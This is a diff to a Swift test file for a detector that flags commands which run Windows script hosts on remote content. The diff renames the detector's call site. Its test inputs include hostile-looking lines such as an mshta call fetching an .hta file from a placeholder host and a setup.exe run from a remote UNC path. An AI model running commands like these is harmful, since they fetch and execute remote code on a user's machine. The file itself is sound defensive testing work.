@@ -2,6 +2,7 @@ import Testing
 
 @testable import Guard
 
+/// `Signal.remoteScriptHost`.
 struct RemoteScriptHostTests {
   @Test(arguments: [
     "mshta http://fix.example/a.hta",
@@ -13,7 +14,7 @@ struct RemoteScriptHostTests {
     #"\\203.0.113.7\a\setup.exe"#,
   ])
   func `a part of Windows that runs something from elsewhere is held`(text: String) {
-    #expect(RemoteScriptHost.severity(of: text) == .hold)
+    #expect(Signal.remoteScriptHost.severity(of: text) == .hold)
   }
 
   @Test(arguments: [
@@ -24,6 +25,6 @@ struct RemoteScriptHostTests {
     "wine setup.exe",
   ])
   func `local files are harmless`(text: String) {
-    #expect(RemoteScriptHost.severity(of: text) == nil)
+    #expect(Signal.remoteScriptHost.severity(of: text) == nil)
   }
 }
